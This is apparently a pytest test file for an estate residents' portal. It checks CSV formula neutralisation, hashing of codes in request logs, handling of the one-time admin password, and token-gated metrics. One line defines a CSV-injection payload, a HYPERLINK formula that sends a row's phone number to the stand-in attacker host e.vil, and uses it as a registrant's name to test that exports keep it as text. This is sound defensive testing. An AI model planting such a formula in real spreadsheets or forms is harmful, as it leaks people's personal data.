"""Privacy and secrets, played as the outsider against a real portal: a self-registered name that is a spreadsheet
formula, the health and metrics endpoints an Internet client can reach, the first administrator's one-time password
and the request log."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import aiohttp
import pytest

from portal.config import load
from portal.web import csvcells
from portal.web.redact import short_hash
from tests.portal_support import ROOT, csrf_of, portal_process, running_portal, write_config
from tests.registry_support import admin_session, estate_csv, form, import_csv, plate_code, plate_codes, resident_row

# ---------------------------------------------------------------- CSV: formulas stay text

#: What a spreadsheet runs as a formula: a first character of these, or blanks and then one of these.
RUNS = "=+-@\t\r"
FORMULA = '=HYPERLINK("http://e.vil/?"&G2,"查看")'  # G2: the row's phone number, sent to the attacker


def _runs(value: str) -> bool:
    """Written from OWASP's CSV-injection list, independently of portal.web.csvcells."""
    stripped = value.lstrip(" \t\r\n\u3000")
    return bool(value) and (value[0] in RUNS or (stripped[:1] in RUNS and stripped != value))


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+8613600002222", "'+8613600002222"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (" =1", "' =1"),
        ("\u3000=1", "'\u3000=1"),
        ("张伟", "张伟"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (12, "12"),
        ("'=1", "'=1"),
        (" plain", " plain"),
    ],
)
def test_cells_that_would_run_are_text_and_read_back(value: object, shown: str) -> None:
    assert csvcells.cell(value) == shown
    assert not _runs(shown)
    if isinstance(value, str) and not value.startswith("'"):
        assert csvcells.uncell(shown) == value


async def test_a_self_registered_formula_name_leaves_every_export_as_text(tmp_path: Path) -> None:
    """A stranger registers on a house plate as a formula; once approved, the administrator's web export, the
    command-line export and a re-import of the export keep it as the text it is."""
    cfg = write_config(tmp_path, None)
    async with running_portal(cfg) as p:
        csrf = await admin_session(p)
        assert (await import_csv(p, csrf, estate_csv()))[0] == 200
        code = await plate_code(p, "3", "2", "301")
        await p.client.post("/logout", data={"csrf": csrf}, headers={"Origin": p.origin})

        page = await (await p.client.get(f"/p/{code}/register")).text()
        pc = page.split('name="csrf" value="')[1].split('"')[0]
        r = await form(
            p,
            f"/p/{code}/register",
            {
                "name": FORMULA,
                "phone": "13566667777",
                "role": "family",
                "password": "formula-pass-2026",
                "confirm": "formula-pass-2026",
            },
            pc,
        )
        assert r.status == 200, await r.text()
        csrf = await admin_session(p, "office2")
        pending = await resident_row(p, "13566667777", "301")
        r = await form(p, f"/admin/registry/residents/{pending['id']}/approve", {"back": "pending"}, csrf)
        assert r.status == 303

        r = await p.client.get("/admin/registry/export.csv")
        assert r.status == 200
        web_export = await r.read()
        cli = await asyncio.to_thread(
            subprocess.run,
            [sys.executable, "-m", "portal", "export-estate", "--config", str(cfg)],
            cwd=ROOT,
            capture_output=True,
            timeout=60,
        )
        assert cli.returncode == 0, cli.stderr
        for raw in (web_export, cli.stdout):
            rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
            running = [c for row in rows for c in row if _runs(c)]
            assert not running, running
            names = {row[5] for row in rows[1:]}
            assert "'" + FORMULA in names and FORMULA not in names
            assert "'+8613600002222" in {row[6] for row in rows[1:]}  # a phone with + is a formula to Excel too

        # The export imports back unchanged: the same people, the formula still only a name.
        people_before = await p.services.store.read(
            lambda c: sorted(tuple(x) for x in c.execute("SELECT id, name, phone FROM reg_people"))
        )
        r = await p.client.post(
            "/api/registry/import",
            data=web_export,
            headers={"Origin": p.origin, "X-CSRF-Token": csrf, "Content-Type": "text/csv"},
        )
        assert r.status == 200, await r.text()
        people_after = await p.services.store.read(
            lambda c: sorted(tuple(x) for x in c.execute("SELECT id, name, phone FROM reg_people"))
        )
        assert people_after == people_before
        assert any(name == FORMULA for _, name, _ in people_after)


# ---------------------------------------------------------------- the first administrator and the request log


def _cli(*args: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "portal", *map(str, args)],
        cwd=ROOT,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=90,
    )


async def test_the_one_time_password_is_in_a_0600_file_never_on_stdout_or_in_the_log(tmp_path: Path) -> None:
    """What systemd's journal keeps of the portal (its stdout and stderr) never holds the first administrator's
    one-time password: a file only the service user reads does, and it goes once the password is changed."""
    cfg = write_config(tmp_path, None)
    with portal_process(cfg) as pp:
        assert pp.first_admin is not None and set(pp.first_admin) == {"user", "password_file", "must_change"}
        path = Path(pp.first_admin["password_file"])
        st = path.stat()
        assert st.st_mode & 0o777 == 0o600 and st.st_uid == os.getuid()
        otp = path.read_text().strip()
        assert len(otp) >= 12
        async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
            page = await (await http.get(pp.url + "login")).text()
            r = await http.post(
                pp.url + "login",
                data={"user": "admin", "password": otp, "csrf": csrf_of(page)},
                headers={"Origin": pp.url.rstrip("/")},
            )
            assert str(r.url).endswith("/password")  # the one-time password works, once, for a change
            new = "admin-own-passphrase-1"
            r = await http.post(
                pp.url + "password",
                data={"current": otp, "new": new, "confirm": new, "csrf": csrf_of(await r.text())},
                headers={"Origin": pp.url.rstrip("/")},
            )
            assert str(r.url).endswith("/console?changed=1")
        assert not path.exists()  # spent: gone from the disk too
        pp.stop()
        out = pp.proc.stdout.read() if pp.proc.stdout and not pp.proc.stdout.closed else b""
        journal = pp.stderr_path.read_text() + out.decode()
        assert otp not in journal and str(path) in journal


async def test_request_logs_hold_plate_codes_and_visitor_links_only_as_short_hashes(tmp_path: Path) -> None:
    """Whoever reads the journal (an installer, a log shipper, a support ticket) learns no plate code and no
    visitor link: not from the request lines, the Referer, a sign-in page's next=, nor a refusal's warning."""
    cfg = write_config(tmp_path, None)
    src = tmp_path / "estate.csv"
    src.write_text(estate_csv(), encoding="utf-8")
    assert _cli("import-estate", "--config", cfg, src).returncode == 0
    codes = plate_codes(cfg)
    house, entrance = codes[("3", "2", "301")], codes[("3", "2", None)]
    visitor = "Vq3" + "x" * 19  # the shape of a share link's token (none is issued: the line is what matters)
    with portal_process(cfg) as pp:
        base = pp.url.rstrip("/")
        async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
            for path, headers in [
                (f"/p/{house}", {}),
                (f"/p/{house}/report", {"Referer": f"{base}/p/{house}"}),
                (f"/p/{entrance}", {"Referer": f"{base}/m/login?next=%2Fp%2F{house}"}),
                (f"/m/login?next=/p/{entrance}", {}),
                (f"/m/v/{visitor}", {}),
                (f"/m/v/{visitor}/qr.png", {"Referer": f"{base}/m/v/{visitor}"}),
                (f"/lang/en?next=%252Fp%252F{house}", {}),
            ]:
                async with http.get(base + path, headers=headers, allow_redirects=False) as r:
                    await r.read()
            async with http.post(f"{base}/p/{house}/sos", data={"x": "1"}, headers={"Origin": base}) as r:
                assert r.status == 403  # no CSRF token: refused, and the refusal is logged with its path
            async with http.post(
                f"{base}/p/{house}/report",
                data=b"x" * (6 * 1024 * 1024),
                headers={"Origin": base, "Content-Type": "application/octet-stream"},
            ) as r:
                assert r.status == 413  # over the body limit: refused and logged
        pp.stop()
    log = pp.stderr_path.read_text()
    for secret in (house, entrance, visitor):
        assert secret not in log, [line for line in log.splitlines() if secret in line]
        assert short_hash(secret) in log  # the line is there, the secret is not
    assert f"GET /p/{short_hash(house)}/report" in log and "CSRF" in log and "limit" in log


# ---------------------------------------------------------------- health and metrics on the Internet


async def test_an_internet_client_hears_ok_and_nothing_else_and_prometheus_scrapes_with_the_token(
    tmp_path: Path,
) -> None:
    """The portal answers residents' phones from the Internet; its broker link is down (an estate's alarms are not
    reaching it). A stranger learns that the portal answers, not which sites and gateways there are nor that the
    link is down; metrics need the scrape token (a 0600 file), which Prometheus sends as a bearer token."""
    cfg = write_config(tmp_path, None, gateways=[("sunny-gardens", "gw-b3"), ("north-park", "gw-n1")])
    with portal_process(cfg) as pp:
        token_file = load(cfg).data_path("scrape.token")
        assert token_file.stat().st_mode & 0o777 == 0o600
        token = token_file.read_text().strip()
        async with aiohttp.ClientSession() as http:
            async with http.get(pp.url + "api/health") as r:
                assert r.status == 200 and await r.json() == {"status": "ok"}
            for headers in (
                {},
                {"Authorization": "Bearer wrong-token-wrong-token"},
                {"Authorization": token},
                {"Authorization": f"Basic {token}"},
                {"Cookie": "gh_session=forged"},
            ):
                async with http.get(pp.url + "metrics", headers=headers) as r:
                    body = await r.text()
                    assert r.status == 401 and "gatehouse_" not in body, headers
                    assert r.headers["WWW-Authenticate"].startswith("Bearer")
                async with http.get(pp.url + "api/health", headers=headers) as r:
                    assert await r.json() == {"status": "ok"}, headers
            scrape = {"Authorization": f"Bearer {token}"}
            async with http.get(pp.url + "metrics", headers=scrape) as r:
                assert r.status == 200 and "gatehouse_portal_broker_connected 0.0" in await r.text()
            async with http.get(pp.url + "api/health", headers=scrape) as r:
                details = await r.json()
            assert details["status"] == "degraded" and details["broker"]["connected"] is False
            assert {g["site"] for g in details["gateways"]} == {"sunny-gardens", "north-park"}


def test_a_scrape_token_file_others_can_read_stops_the_portal_with_a_clear_error(tmp_path: Path) -> None:
    token = tmp_path / "scrape.token"
    token.write_text("a-token-prometheus-also-reads\n")
    token.chmod(0o644)
    cfg = write_config(tmp_path, None, extra=f"scrape_token_file: {token}\n")
    r = subprocess.run(
        [sys.executable, "-m", "portal", "run", "--config", str(cfg)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert r.returncode == 1 and "chmod 600" in r.stderr and str(token) in r.stderr and "Traceback" not in r.stderr
    assert '"ready"' not in r.stdout


async def test_request_logs_hold_patrol_checkpoint_codes_only_as_short_hashes(tmp_path: Path) -> None:
    """A checkpoint plate's code (``/g/c/<code>``) is what proves a guard stood at the checkpoint: it is kept only
    sealed in the store, like a door plate's. Whoever reads the journal must not learn it and 'scan' from home."""
    cfg = write_config(tmp_path, None)
    code = "Ck9" + "y" * 19  # the shape of a checkpoint's code (the line is what matters, as above)
    with portal_process(cfg) as pp:
        base = pp.url.rstrip("/")
        async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
            for path, headers in [
                (f"/g/c/{code}", {}),
                (f"/login?next=/g/c/{code}", {}),
                ("/console", {"Referer": f"{base}/g/c/{code}"}),
            ]:
                async with http.get(base + path, headers=headers, allow_redirects=False) as r:
                    await r.read()
            async with http.post(
                f"{base}/g/c/{code}", data={"nonce": "x"}, headers={"Origin": base}, allow_redirects=False
            ) as r:
                assert r.status == 303  # no session: sent to sign in, and the request is logged with its path
        pp.stop()
    log = pp.stderr_path.read_text()
    assert code not in log, [line for line in log.splitlines() if code in line]
    assert f"GET /g/c/{short_hash(code)}" in log
